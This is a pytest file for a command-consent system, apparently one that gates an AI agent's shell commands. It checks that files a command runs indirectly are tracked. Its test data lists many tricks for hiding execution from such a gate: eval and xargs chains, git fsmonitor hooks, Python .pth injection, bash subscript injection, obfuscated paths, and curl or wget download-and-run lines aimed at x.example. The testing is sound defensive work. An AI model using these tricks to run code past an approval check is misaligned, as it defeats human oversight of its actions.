"""Whatever a command reaches in a roundabout way: a change of it ends the agreement, or the question says so."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from tests.torture.conftest import Place
from tests.torture.test_consent import planned

from hookwright.consent.asking import requests_of
from hookwright.consent.request import ConsentRequest

# A command, and a file that it runs in the end.
_WAYS = (
    ("python3 lib/imp.py", "lib/sub/x.py"),
    ("python3 lib/imp2.py", "lib/sub/x.py"),
    ("python3 lib/imp3.py", "lib/helper.py"),
    ("python3 lib/imp4.py", "guard.sh"),
    ("python3 lib/imp5.py", "lib/selectors.py"),
    ("python3 -m lib.rel", "lib/helper.py"),
    ("python3 lib/imp6.py", "lib/helper.py"),
    ("python3 lib/imp7.py", "lib/helper.so"),
    ("python3 -c'exec(open(\"a.py\").read())' b.py", "a.py"),
    ("python3 -c 'import sys; exec(open(sys.argv[1]).read())' a.py", "a.py"),
    ("perl -e 'do shift' ./a.pl", "a.pl"),
    ("perl -I. -MEvil -e 1", "Evil.pm"),
    ("ruby -I. -revil -e 1", "evil.rb"),
    ("php -d auto_prepend_file=./a.php -r 1", "a.php"),
    ("cat cmds.txt | xargs -I{} sh -c {}", "cmds.txt"),
    ("xargs -a cmds.txt -I{} sh -c {}", "cmds.txt"),
    ("find . -name guard.sh -exec sh {} ;", "guard.sh"),
    ("find . -name guard.sh -exec sh {} \\;", "guard.sh"),
    ("find . -name guard.sh -exec {} \\;", "guard.sh"),
    ("cp evil.txt y.sh; sh y.sh", "evil.txt"),
    ("cat evil.txt > y.sh; sh y.sh", "evil.txt"),
    ("mv evil.txt y.sh; sh y.sh", "evil.txt"),
    ("tee y.sh < evil.txt; ./y.sh", "evil.txt"),
    ("gunzip -kf y.sh.gz; sh y.sh", "y.sh.gz"),
    ("patch -p1 < p.diff; sh guard.sh", "p.diff"),
    ("ln -sf evil.txt y.sh; sh y.sh", "evil.txt"),
    ("flock lock ./later.sh", "later.sh"),
    ("flock lock sh later.sh", "later.sh"),
    ("sh bad-utf8.sh", "lib/env.sh"),
    ("sh long.sh", "lib/env.sh"),
    ("sh d1.sh", "d6.sh"),
    ("git -C runs status", "fsmon.sh"),
    ("sed s/x/y/e cmds.txt", "cmds.txt"),
    ("read CLAUDE_PROJECT_DIR < f; $CLAUDE_PROJECT_DIR/guard.sh", "f"),
    ("node lib/imp.js", "lib/backtick.js"),
    ("node lib/imp2.js", "node_modules/dep/index.js"),
    ("node lib/imp3.js", "guard.sh"),
    ("ruby a.rb", "evil.rb"),
    ("perl a.pl", "b.pl"),
    ("perl -w a2.pl", "Evil.pm"),
    ("source lib/env.sh; . $(dirname x)/guard.sh", "x/guard.sh"),
    ("CDPATH=./d cd lib && ./guard2.sh", "d/lib/guard2.sh"),
    ("HOME=$PWD/h git status", "h/.gitconfig"),
    ("run-parts d", "d/x"),
    ("sh -c '. \"$0\"' ./data.txt", "data.txt"),
    ("bash -c 'source \"$1\"' x data.txt", "data.txt"),
    ("env -- ./guard.sh", "guard.sh"),
    ("busybox sh guard.sh", "guard.sh"),
    ("jq -f guard.jq", "guard.jq"),
    ("jq -rf guard.jq data.json", "guard.jq"),
    ("sed -nf guard.sed data.txt", "guard.sed"),
    ("gawk -i ./guard.awk 1 x", "guard.awk"),
    ("awk -fguard.awk x", "guard.awk"),
    ("make -C lib", "lib/Makefile"),
    ("git grep -O./guard.sh x", "guard.sh"),
    ("git grep --open-files-in-pager=./guard.sh x", "guard.sh"),
    ("git diff --ext-diff", "fsmon.sh"),
    ("vim -S guard.vim", "guard.vim"),
    ("bash -O extglob -c ./guard.sh", "guard.sh"),
    ("bash --rcfile ./guard.sh -i -c true", "guard.sh"),
    ("bash --init-file=./guard.sh -i", "guard.sh"),
    ("./venv/bin/python x.py", "venv/lib/python3.11/site-packages/a.pth"),
    ("command ./guard.sh", "guard.sh"),
    ("exec ./guard.sh", "guard.sh"),
    ("! ./guard.sh", "guard.sh"),
    ("time ./guard.sh", "guard.sh"),
    ("time -p ./guard.sh", "guard.sh"),
    ("coproc ./guard.sh", "guard.sh"),
    ("mapfile -C ./guard.sh -c 1 < x", "guard.sh"),
    ("[ -x guard.sh ] && ./guard.sh", "guard.sh"),
    ("[[ $(./guard.sh) ]]", "guard.sh"),
    ('[ "$(./guard.sh)" ]', "guard.sh"),
    ("(( $(./guard.sh) ))", "guard.sh"),
    ("for x in $(./guard.sh); do :; done", "guard.sh"),
    ("case $(./guard.sh) in *) ;; esac", "guard.sh"),
    ('echo "${x:+$(./guard.sh)}"', "guard.sh"),
    ("echo $((`./guard.sh`))", "guard.sh"),
    ("cat <<EOF\n$(./guard.sh)\nEOF", "guard.sh"),
    ('cat <<< "$(./guard.sh)"', "guard.sh"),
    ("a[$(./guard.sh)]=1", "guard.sh"),
    ("x=$(./guard.sh)", "guard.sh"),
    ("printf -v 'a[$(./guard.sh)]' x", "guard.sh"),
    ("test -v 'a[$(./guard.sh)]'", "guard.sh"),
    ("complete -C ./guard.sh x", "guard.sh"),
    ("bind -x '\"x\":./guard.sh'", "guard.sh"),
    ("watch ./guard.sh", "guard.sh"),
    ("nohup sh guard.sh &", "guard.sh"),
    ("cat guard.sh - | sh", "guard.sh"),
    ("sh - guard.sh", "guard.sh"),
    ("sh -- guard.sh", "guard.sh"),
    ("sh +x guard.sh", "guard.sh"),
    ("python3 - < lib/guard.py", "lib/guard.py"),
    ("python3 lib", "lib/__main__.py"),
    ("python3 a.zip", "a.zip"),
    ("node .", "package.json"),
    ("node lib", "lib/index.js"),
    ("node guard", "guard.js"),
    ("deno run --import-map=m.json lib/guard.js", "m.json"),
    ("php a3.php", "a.php"),
    ("lua a.lua", "b.lua"),
    ('bash -c "$(cat guard.sh)"', "guard.sh"),
    ('eval "$(cat guard.sh)"', "guard.sh"),
    ("eval `cat guard.sh`", "guard.sh"),
    ("$(cat cmds.txt)", "cmds.txt"),
    ('sh -c "`cat cmds.txt`"', "cmds.txt"),
    ("echo x | tee >(sh guard.sh)", "guard.sh"),
    ("find . -fprintf y.sh x; sh y.sh", "y.sh"),
    ("dash ./guard.sh", "guard.sh"),
    ("rbash ./guard.sh", "guard.sh"),
    ("bash5 data.txt", "data.txt"),
    ("pythonw data.txt", "data.txt"),
    ("uv run data.txt", "data.txt"),
    ("script -c ./guard.sh", "guard.sh"),
    ("sh -ec './guard.sh'", "guard.sh"),
    ("bash -xc './guard.sh' y", "guard.sh"),
    ("zsh -fc './guard.sh'", "guard.sh"),
    ("sh -o errexit guard.sh", "guard.sh"),
    ("sh -eo pipefail -c ./guard.sh", "guard.sh"),
    ('CLAUDE_PROJECT_DIR=/x; "$CLAUDE_PROJECT_DIR"/guard.sh', "guard.sh"),
    ('set -- ./guard.sh; "$@"', "guard.sh"),
    ("set -- ./guard.sh; $1", "guard.sh"),
    ('f() { "$1"; }; f ./guard.sh', "guard.sh"),
    ("cd lib; . ./env.sh", "lib/env.sh"),
    ("pushd lib; ./env.sh", "lib/env.sh"),
    ("cd lib || exit; ./env.sh", "lib/env.sh"),
    ("env -C lib ./env.sh", "lib/env.sh"),
    ("env --chdir=lib ./env.sh", "lib/env.sh"),
    ("nice -n5 ./guard.sh", "guard.sh"),
    ("timeout -s9 5 ./guard.sh", "guard.sh"),
    ("timeout --signal=9 5 ./guard.sh", "guard.sh"),
    ("setpriv ./guard.sh", "guard.sh"),
    ("chroot . ./guard.sh", "guard.sh"),
    ("unshare -r ./guard.sh", "guard.sh"),
    ("strace -f ./guard.sh", "guard.sh"),
    ("ld.so ./guard", "guard"),
    ("/lib64/ld-linux-x86-64.so.2 ./elf", "elf"),
    ("tclsh data.txt", "data.txt"),
    ("expect data.txt", "data.txt"),
    ("gdb -x data.txt", "data.txt"),
    ("sqlite3 db < data.txt", "data.txt"),
    ("sort --compress-program=./guard.sh x", "guard.sh"),
    ("tar xf a.tar -I ./guard.sh", "guard.sh"),
    ("less data.txt", "data.txt"),
    ("python3 -W error::evil.X -c 1", "evil.py"),
    ("python3 -X importtime lib/guard.py", "lib/guard.py"),
    ("python3 -im lib.guard", "lib/guard.py"),
    ("python3 -Bm lib.guard", "lib/guard.py"),
    ("python3 -mlib.guard", "lib/guard.py"),
    ("python3 -m lib", "lib/__main__.py"),
    ("python3 -m runpy", "runpy.py"),
    ("python3 -m http.server", "http/server.py"),
    ("python3 -m json.tool", "json/tool.py"),
    ("python3 -m json.tool", "enum.py"),
    ("python3 -c 'import subprocess'", "selectors.py"),
    ("./pyscript", "helper.py"),
    ("./envs", "lib/env.sh"),
    ("NODE_OPTIONS='-r ./lib/other.js' node -e 1", "lib/other.js"),
    ("ENV=./guard.sh sh -i", "guard.sh"),
    ("IFS=/ ; x=.; $x/guard.sh", "guard.sh"),
    ("echo x | while read l; do ./guard.sh; done", "guard.sh"),
    ("if ./guard.sh; then :; fi", "guard.sh"),
    ("until ./guard.sh; do :; done", "guard.sh"),
    ("{ ./guard.sh; }", "guard.sh"),
    ("./guard.sh &", "guard.sh"),
    ("true | ./guard.sh", "guard.sh"),
    ("true && ./guard.sh", "guard.sh"),
    ("./gu*.sh", "guard.sh"),
    ("./{guard,x}.sh", "guard.sh"),
    ("~+/guard.sh", "guard.sh"),
    (".//guard.sh", "guard.sh"),
    ("lib/../guard.sh", "guard.sh"),
    ("gu\\ard.sh; ./gu\\ard.sh", "guard.sh"),
    ("./$'guard.sh'", "guard.sh"),
    ("./$'gu\\x61rd.sh'", "guard.sh"),
    ('./$"guard.sh"', "guard.sh"),
    ("./guard'.'sh", "guard.sh"),
    ("sh ./link.sh", "linked.txt"),
    ("sh linkdir/x", "sub/below/x"),
    ("sh linkdir/../guard.sh", "sub/guard.sh"),
    ("cat cmds.txt | xargs sh", "guard.sh"),
    ("cat cmds.txt | xargs -n1 timeout 5", "guard.sh"),
    ("find . -name guard.sh -exec sh '{}' \\;", "guard.sh"),
    ("find . -name guard.sh -exec '{}' \\;", "guard.sh"),
    ("cat cmds.txt | xargs -I @ sh -c @", "cmds.txt"),
    ("cat cmds.txt | xargs -I'{}' sh -c '{}'", "cmds.txt"),
    ("cat cmds.txt | xargs -i sh -c '{}'", "cmds.txt"),
    ('sed "$(cat cmds.txt)" x', "cmds.txt"),
    ('awk "$(cat cmds.txt)" x', "cmds.txt"),
    ("sed -n 's/x/y/w y.sh' evil.txt; sh y.sh", "evil.txt"),
    ("curl -so y.sh http://x.example; sh y.sh", "absent"),
    ("wget http://x.example/y.sh; sh y.sh", "absent"),
    ("node lib/up.js", "index.js"),
    ("python3 lib/imp6.py", "lib/__pycache__/helper.cpython-311.pyc"),
    ("python3 lib/imp6.py", "lib/helper.abi3.so"),
    ("./venv/bin/python x.py", "venv/bin/python"),
    ("./venv/bin/python x.py", "venv/lib/python3.11/site-packages/sitecustomize.py"),
    ("python3 lib/imp8.py", "lib/helper.py"),
    ("python3 lib/imp9.py", "lib/helper.py"),
    ("git -C wt status", "wt/.git"),
    ("git -C wt status", "elsewhere/config"),
    ("git status", ".git/hooks/post-index-change"),
    ("sh -c 'export HOME=h; git status'", "h/.gitconfig"),
    ("x='a[$(./guard.sh)]'; echo $((x))", "guard.sh"),
    ("declare 'a[$(./guard.sh)]=1'", "guard.sh"),
    ("[[ 'a[$(./guard.sh)]' -eq 1 ]]", "guard.sh"),
    ("foo runs.txt; sh runs.txt", "guard.sh"),
    ("python3 runs.txt; sh runs.txt", "guard.sh"),
    ("sh runs.txt; cd sub && sh ../runs.txt", "sub/guard.sh"),
    ("env - sh runs.txt", "guard.sh"),
    ("env -iC sub ./guard.sh", "sub/guard.sh"),
    ("env --ch=sub ./guard.sh", "sub/guard.sh"),
    ("sudo -nu root sh runs.txt", "guard.sh"),
    ("sudo --user root sh runs.txt", "guard.sh"),
    ("timeout -- 5 sh runs.txt", "guard.sh"),
    ("xargs -i sh runs.txt", "guard.sh"),
)

_DATA = (
    "sed -n 's/a/b/p' notes.md",
    "sed -e 1d -e '/^#/d;s|a|b|g' notes.md",
    "sed '/a/,$p' < notes.md",
    "awk '{ print $1 }' notes.md",
    "awk -F: '/a/ || $2 >= 3 { n++ } END { print n }' notes.md",
    "jq -r --arg it x '.a | map(.b)' notes.md",
    "yq .a notes.md",
    "grep -c x notes.md",
    "cat notes.md | head -n 3 | wc -l",
    "cat < notes.md",
    "cp notes.md copy.md",
    'sort_of=$(sed s/a/b/ notes.md); echo "$sort_of"',
    "sh guard.sh notes.md",
    "python3 x.py notes.md",
)

_PLAIN_FILES = [
    "cmds.txt",
    "evil.txt",
    "y.sh",
    "y.sh.gz",
    "p.diff",
    "f",
    "data.txt",
    "x",
    "guard.jq",
    "guard.awk",
    "guard.sed",
    "guard.vim",
    "data.json",
    "m.json",
    "package.json",
    "a.zip",
    "a.tar",
    "elf",
    "notes.md",
    "linked.txt",
    "x.py",
    "guard.js",
    "index.js",
    "Evil.pm",
    "helper.py",
    "d/x",
    "sub/guard.sh",
    "sub/below/x",
    "lib/helper.py",
    "lib/sub/x.py",
    "lib/other.js",
    "lib/index.js",
    "lib/backtick.js",
    "node_modules/dep/index.js",
    "venv/pyvenv.cfg",
    "venv/lib/python3.11/site-packages/a.pth",
    "elsewhere/config",
    ".git/HEAD",
]
_FILES: dict[str, str | bytes] = {
    **{f"{name}.{suffix}": "1\n" for name in ("a", "b", "evil") for suffix in ("py", "pl", "php", "rb", "lua")},
    **dict.fromkeys(_PLAIN_FILES, "x\n"),
    "guard.sh": "#!/bin/sh\ntrue\n",
    "runs.txt": "./guard.sh\n",
    "fsmon.sh": "true\n",
    "envs": "#!/usr/bin/env -S sh -e\n. lib/env.sh\n",
    "pyscript": "#!/usr/bin/env python3\nimport helper\n",
    "lib/env.sh": "A=1\n",
    "lib/guard.py": "import json, helper\n",
    "lib/imp.py": "from sub.x import y\n",
    "lib/imp2.py": "import os; import sub.x\n",
    "lib/imp3.py": "import json as j, helper\n",
    "lib/imp4.py": "run(['./guard.sh'])\n",
    "lib/imp5.py": "import subprocess\n",
    "lib/imp6.py": "def f():\n    import helper\n",
    "lib/imp7.py": "import helper\n",
    "lib/imp8.py": "from importlib import import_module\nimport_module('helper')\n",
    "lib/imp9.py": "import \U0001d489elper\n",
    "lib/rel.py": "from . import (\n    helper,\n)\n",
    "lib/guard.js": "require('./other')\n",
    "lib/imp.js": "require(`./backtick`)\n",
    "lib/imp2.js": "require('dep')\n",
    "lib/imp3.js": "run('./guard.sh')\n",
    "lib/up.js": "require('..')\n",
    "node_modules/dep/package.json": "{}",
    "a.rb": "require_relative 'evil'\n",
    "a.pl": "require './b.pl';\n",
    "a2.pl": "use lib '.'; use Evil;\n",
    "a3.php": "<?php include 'a.php';\n",
    "a.lua": "dofile('b.lua')\n",
    "bad-utf8.sh": b"#!/bin/sh\n# \xff\n. lib/env.sh\n",
    "long.sh": "#!/bin/sh\n#" + "x" * 300_000 + "\n. lib/env.sh\n",
    **{f"d{number}.sh": f"sh d{number + 1}.sh\n" for number in range(1, 6)},
    "d6.sh": "true\n",
    ".git/config": "[core]\n\tbare = false\n",
    "runs/.git/config": "[core]\n\tfsmonitor = ../fsmon.sh\n",
    "wt/.git": "gitdir: ../elsewhere\n",
}
_PROGRAMS = ("guard.sh", "fsmon.sh", "envs", "pyscript", "elf", "d/x", "lib/env.sh", "sub/guard.sh")
_LINKS = {"link.sh": "linked.txt", "linkdir": "sub/below", "venv/bin/python": "/usr/bin/env"}


@pytest.fixture
def project(place: Place) -> Place:
    for name, text in _FILES.items():
        place.write(name, text)
    for name in _PROGRAMS:
        (place.project / name).chmod(0o755)
    for name, target in _LINKS.items():
        (place.project / name).parent.mkdir(exist_ok=True)
        (place.project / name).symlink_to(target)
    return place


def asked(place: Place, command: str) -> ConsentRequest:
    (found,) = requests_of([planned(place, command)])
    return found


def is_said(found: ConsentRequest) -> bool:
    """Whether the question says that not everything was read."""
    return bool(found.unread or found.deeper)


def changed(file: Path) -> None:
    """Puts something else there."""
    file.parent.mkdir(parents=True, exist_ok=True)
    before = file.read_bytes() if file.exists() else b"\x00\x01\x02\x03\x01\x00\x00\x00"
    if file.is_symlink():
        file.unlink()
    file.write_bytes(before + b"\n1\n")


def test_what_a_command_reaches_in_a_roundabout_way_is_agreed_to_or_said(project: Place) -> None:
    missed = []
    for command, script in _WAYS:
        first, file = asked(project, command), project.project / script
        was = (os.readlink(file) if file.is_symlink() else file.read_bytes()) if os.path.lexists(file) else None
        if is_said(first):
            continue
        assert asked(project, command).digest == first.digest, command
        changed(file)
        if asked(project, command).digest == first.digest:
            missed.append((command, script))
        file.unlink()
        if isinstance(was, str):
            file.symlink_to(was)
        elif was is not None:
            file.write_bytes(was)
            file.chmod(0o755 if script in _PROGRAMS else 0o644)
    assert missed == []


def test_what_a_command_only_reads_is_no_part_of_the_agreement(project: Place) -> None:
    before = {it: asked(project, it) for it in _DATA}
    assert [it for it, found in before.items() if found.unread] == []

    changed(project.project / "notes.md")

    assert [it for it, found in before.items() if asked(project, it).digest != found.digest] == []
